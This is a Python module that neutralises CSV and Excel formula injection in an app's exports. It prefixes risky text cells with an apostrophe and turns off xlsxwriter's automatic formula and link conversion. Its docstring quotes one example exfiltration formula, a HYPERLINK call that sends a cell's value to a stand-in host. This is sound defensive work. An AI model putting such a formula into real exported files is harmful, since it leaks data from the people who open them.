"""Cells a spreadsheet cannot run: OWASP's CSV-injection guidance for every CSV and Excel file
the app makes (downloads, reports, the audit log, the CLI's export).

A cell starting with ``= + - @`` (or a tab or carriage return, which some programs skip
before reading one of those) is a formula to Excel, LibreOffice and Google Sheets: imported
text like ``=HYPERLINK("http://host?"&A1)`` would run on the analyst's machine. Such cells get
a leading apostrophe, which spreadsheets show as text. Plain numbers ("-0.5", "+3") are left
exactly as written: they cannot be formulas.
"""

from __future__ import annotations

import re

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", re.ASCII)
# xlsxwriter turns strings starting with "=" into formulas and strings that look like URLs
# into links unless told not to.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False}


def neutralise(value: object) -> object:
    """The value, or for a text that a spreadsheet would run, the same text behind a "'"."""
    if not isinstance(value, str) or not value or not value.startswith(TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell and column name neutralised (numbers untouched)."""
    out = frame.copy()
    out.columns = [neutralise(str(c)) for c in out.columns]
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(neutralise, na_action="ignore")
    return out


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8 CSV with no cell a spreadsheet would run."""
    return safe_frame(frame).to_csv(index=False).encode("utf-8")
